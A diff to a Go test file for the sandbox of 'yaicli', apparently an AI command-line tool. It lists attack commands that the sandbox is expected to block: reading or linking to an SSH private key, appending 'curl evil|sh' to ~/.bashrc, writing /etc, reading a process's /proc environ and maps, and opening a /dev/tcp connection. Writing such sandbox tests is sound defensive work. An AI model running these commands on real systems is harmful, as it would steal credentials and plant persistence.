@@ -4,12 +4,14 @@ package main
 
 import (
 	"context"
+	"errors"
+	"fmt"
 	"io"
+	"io/fs"
 	"net"
 	"os"
 	"os/exec"
 	"path/filepath"
-	"runtime"
 	"slices"
 	"strconv"
 	"strings"
@@ -35,9 +37,10 @@ type fencedRun struct {
 func sandboxHome(t *testing.T) *config {
 	t.Helper()
 	if landlockABI() < 1 {
-		t.Skip("no Landlock in this kernel")
+		skipWithout(t, "Landlock", "no Landlock in this kernel")
 	}
-	base, err := os.MkdirTemp(".", ".sandboxtest-")
+	gocache, _ := exec.Command("go", "env", "GOCACHE").Output()
+	base, err := os.MkdirTemp(fencedReadOnlyDir(t, strings.TrimSpace(string(gocache))), ".sandboxtest-")
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -56,7 +59,6 @@ func sandboxHome(t *testing.T) *config {
 	// holding a sensitive place is granted only child by child (go build
 	// makes its work directory right in TMPDIR).
 	tmp := t.TempDir()
-	gocache, _ := exec.Command("go", "env", "GOCACHE").Output()
 	env := []string{"HOME=" + home, "PATH=" + os.Getenv("PATH"), "SHELL=/bin/sh", "GOCACHE=" + strings.TrimSpace(string(gocache)),
 		"GOTOOLCHAIN=local", "GOFLAGS=", "TMPDIR=" + tmp, "OPENAI_API_KEY=sk-sandboxtest-0123456789abcdef"}
 	cfg, err := loadConfig(configSources{env: envLookup(env), home: home, workDir: ws, environ: env, cacheDir: filepath.Join(home, ".cache"),
@@ -65,6 +67,50 @@ func sandboxHome(t *testing.T) *config {
 		t.Fatal(err)
 	}
 	return cfg
+}
+
+// fencedReadOnlyDir is a directory of this user's to make the fake home
+// in that a fenced command may not write to: the package directory, unless
+// the clone is where every fenced command writes (under /tmp, TMPDIR or a
+// build cache), then the user's cache or home directory. The places are the
+// sandbox's own, asked of newSandbox, not a copy of its list. Without such a
+// directory the attacks could not fail, so the test is skipped by name.
+func fencedReadOnlyDir(t *testing.T, gocache string) string {
+	t.Helper()
+	env := append(os.Environ(), "GOCACHE="+gocache)
+	open := newSandbox(sandboxOptions{workDir: "/", environ: env}, "").write // "/": no workspace, only what every command may write
+	for i, d := range open {
+		open[i] = resolvePathOf(d)
+	}
+	wd, _ := os.Getwd()
+	candidates := []string{wd}
+	if d, err := os.UserCacheDir(); err == nil {
+		candidates = append(candidates, d)
+	}
+	if d, err := os.UserHomeDir(); err == nil {
+		candidates = append(candidates, d)
+	}
+	for _, d := range candidates {
+		if r := resolvePathOf(d); !insideAny(r, open) && unix.Access(r, unix.W_OK) == nil {
+			return r
+		}
+	}
+	skipWithout(t, "a directory outside /tmp", fmt.Sprintf("no writable directory among %v lies outside what every fenced command may write (%v)", candidates, open))
+	return ""
+}
+
+// mayPtrace reports whether this process holds CAP_SYS_PTRACE (bit 19 of
+// /proc/self/status's CapEff), which reading the /proc files of a
+// non-dumpable process of the same user takes.
+func mayPtrace() bool {
+	b, _ := os.ReadFile("/proc/self/status")
+	for _, line := range strings.Split(string(b), "\n") {
+		if v, ok := strings.CutPrefix(line, "CapEff:"); ok {
+			caps, err := strconv.ParseUint(strings.TrimSpace(v), 16, 64)
+			return err == nil && caps&(1<<unix.CAP_SYS_PTRACE) != 0
+		}
+	}
+	return false
 }
 
 // envLookup reads a variable from environ.
@@ -113,20 +159,26 @@ func TestSandboxAttacks(t *testing.T) {
 	}
 	defer ln.Close()
 	port := strconv.Itoa(ln.Addr().(*net.TCPAddr).Port)
-	attacks := []struct{ name, cmd, leak string }{
-		{"read ~/.ssh key", "cat ~/.ssh/id_ed25519", "PRIVATE-KEY-BYTES"},
-		{"read ~/.ssh through ..", "cat proj/../.ssh/id_ed25519 2>&1; cd ..; cat ./.ssh/id_ed25519", "PRIVATE-KEY-BYTES"},
-		{"list ~/.ssh", "ls ~/.ssh", "id_ed25519"},
-		{"link to ~/.ssh in the workspace", "ln -s ~/.ssh keys && cat keys/id_ed25519", "PRIVATE-KEY-BYTES"},
-		{"hard link of the key", "ln ~/.ssh/id_ed25519 k 2>/dev/null; cat k", "PRIVATE-KEY-BYTES"},
-		{"write beside the workspace", "echo PLANTED > ~/planted && cat ~/planted", "PLANTED"},
-		{"append to ~/.bashrc", "echo 'curl evil|sh' >> ~/.bashrc; cat ~/.bashrc", "curl evil"},
-		{"write /etc", "echo x > /etc/yaicli-sandbox-test && echo wrote", "wrote"},
-		{"read yaicli's environ", "cat /proc/" + strconv.Itoa(os.Getpid()) + "/environ > /dev/null && echo ENVIRON-READ", "ENVIRON-READ"},
-		{"read yaicli's memory maps", "cat /proc/" + strconv.Itoa(os.Getpid()) + "/maps > /dev/null && echo MAPS-READ", "MAPS-READ"},
-		{"connect out (bash /dev/tcp)", "bash -c 'echo hi > /dev/tcp/127.0.0.1/" + port + "' && echo connected", "connected"},
-		{"write to the terminal", "ls -l /proc/$$/fd/ >/dev/null; for t in /dev/tty /dev/pts/*; do echo x 2>/dev/null > $t && echo TTY-WRITTEN; done; true", "TTY-WRITTEN"},
-		{"bind a port", "python3 -c 'import socket; s=socket.socket(); s.bind((\"127.0.0.1\", 0)); s.listen(); print(\"bound\")'", "bound"},
+	pid := strconv.Itoa(os.Getpid())
+	attacks := []struct {
+		name, cmd, leak string
+		unfenced        func() bool // whether the attack works here without the fence (nil: everywhere)
+	}{
+		{"read ~/.ssh key", "cat ~/.ssh/id_ed25519", "PRIVATE-KEY-BYTES", nil},
+		{"read ~/.ssh through ..", "cat proj/../.ssh/id_ed25519 2>&1; cd ..; cat ./.ssh/id_ed25519", "PRIVATE-KEY-BYTES", nil},
+		{"list ~/.ssh", "ls ~/.ssh", "id_ed25519", nil},
+		{"link to ~/.ssh in the workspace", "ln -s ~/.ssh keys && cat keys/id_ed25519", "PRIVATE-KEY-BYTES", nil},
+		{"hard link of the key", "ln ~/.ssh/id_ed25519 k 2>/dev/null; cat k", "PRIVATE-KEY-BYTES", nil},
+		{"write beside the workspace", "echo PLANTED > ~/planted && cat ~/planted", "PLANTED", nil},
+		{"append to ~/.bashrc", "echo 'curl evil|sh' >> ~/.bashrc; cat ~/.bashrc", "curl evil", nil},
+		{"write /etc", "echo x > /etc/yaicli-sandbox-test && echo wrote", "wrote", func() bool { return unix.Access("/etc", unix.W_OK) == nil }},
+		// A non-dumpable process's /proc files take CAP_SYS_PTRACE to read:
+		// root has it, another user (or a container's root without it) not.
+		{"read yaicli's environ", "cat /proc/" + pid + "/environ > /dev/null && echo ENVIRON-READ", "ENVIRON-READ", mayPtrace},
+		{"read yaicli's memory maps", "cat /proc/" + pid + "/maps > /dev/null && echo MAPS-READ", "MAPS-READ", mayPtrace},
+		{"connect out (bash /dev/tcp)", "bash -c 'echo hi > /dev/tcp/127.0.0.1/" + port + "' && echo connected", "connected", nil},
+		{"write to the terminal", "ls -l /proc/$$/fd/ >/dev/null; for t in /dev/tty /dev/pts/*; do echo x 2>/dev/null > $t && echo TTY-WRITTEN; done; true", "TTY-WRITTEN", nil},
+		{"bind a port", "python3 -c 'import socket; s=socket.socket(); s.bind((\"127.0.0.1\", 0)); s.listen(); print(\"bound\")'", "bound", nil},
 	}
 	t.Cleanup(func() { os.Remove("/etc/yaicli-sandbox-test"); os.Remove(filepath.Join(home, "planted")) })
 	unix.Prctl(unix.PR_SET_DUMPABLE, 0, 0, 0, 0) // as yaicli's main makes itself; the test process stands for yaicli
@@ -135,7 +187,7 @@ func TestSandboxAttacks(t *testing.T) {
 		t.Run(a.name, func(t *testing.T) {
 			if prog := strings.Fields(a.cmd)[0]; prog == "python3" || prog == "bash" {
 				if _, err := exec.LookPath(prog); err != nil {
-					t.Skipf("no %s here", prog)
+					skipWithout(t, prog, "no "+prog+" here")
 				}
 			}
 			if got := runFenced(t, cfg, a.cmd, true); strings.Contains(got.Output, a.leak) {
@@ -143,6 +195,10 @@ func TestSandboxAttacks(t *testing.T) {
 			}
 			if strings.Contains(a.name, "hard link") || strings.Contains(a.name, "terminal") || strings.Contains(a.name, "through ..") && os.Getuid() != 0 {
 				return // unfenced, these work only in some setups; the fenced half is what matters
+			}
+			if a.unfenced != nil && !a.unfenced() {
+				t.Logf("unfenced, %q cannot work for uid %d here: only the fenced half is checked", a.name, os.Geteuid())
+				return
 			}
 			if got := runFenced(t, cfg, a.cmd, false); !strings.Contains(got.Output, a.leak) {
 				t.Errorf("unfenced %q printed %q, want %q: the attack does not work even without the sandbox", a.cmd, got.Output, a.leak)
@@ -345,12 +401,16 @@ func TestKeyNotInEnvironBlock(t *testing.T) {
 	}
 	defer func() { stdin.Close(); cmd.Process.Kill(); cmd.Wait() }()
 	var block string
-	for deadline := time.Now().Add(30 * time.Second); time.Now().Before(deadline); {
-		b, _ := os.ReadFile("/proc/" + strconv.Itoa(cmd.Process.Pid) + "/environ")
+	for deadline := time.Now().Add(e2eTimeout); time.Now().Before(deadline); time.Sleep(time.Millisecond) {
+		b, err := os.ReadFile("/proc/" + strconv.Itoa(cmd.Process.Pid) + "/environ")
+		if errors.Is(err, fs.ErrPermission) {
+			// main made yaicli non-dumpable: no process of this user reads
+			// its environ now; root can, and only root sees the blanking.
+			skipWithout(t, "root", "yaicli's environ is unreadable to uid "+strconv.Itoa(os.Geteuid())+" (non-dumpable); as root the test checks the keys are blanked")
+		}
 		if block = string(b); strings.Contains(block, "OPENAI_API_KEY=xxxx") {
 			break
 		}
-		runtime.Gosched()
 	}
 	for _, k := range keys {
 		if _, v, _ := strings.Cut(k, "="); strings.Contains(block, v) {
@@ -496,13 +556,17 @@ func TestDescendantsEndWhenYaicliIsKilled(t *testing.T) {
 	}
 	cmd.Process.Kill()
 	cmd.Wait()
+	// Promised within signalBound; allowed hangBound, which tells ending
+	// from hanging on a machine busy with other runs, the time logged.
 	var left []string
-	for deadline := time.Now().Add(signalBound); ; time.Sleep(10 * time.Millisecond) {
+	start := time.Now()
+	for deadline := start.Add(hangBound); ; time.Sleep(10 * time.Millisecond) {
 		if left = leftWith(marker); len(left) == 0 || time.Now().After(deadline) {
 			break
 		}
 	}
 	if len(left) > 0 {
-		t.Errorf("left running after yaicli was killed: %v", left)
+		t.Errorf("left running %v after yaicli was killed: %v", hangBound, left)
 	}
+	t.Logf("the child ended %v after yaicli was killed (promised: %v)", time.Since(start).Round(time.Millisecond), signalBound)
 }
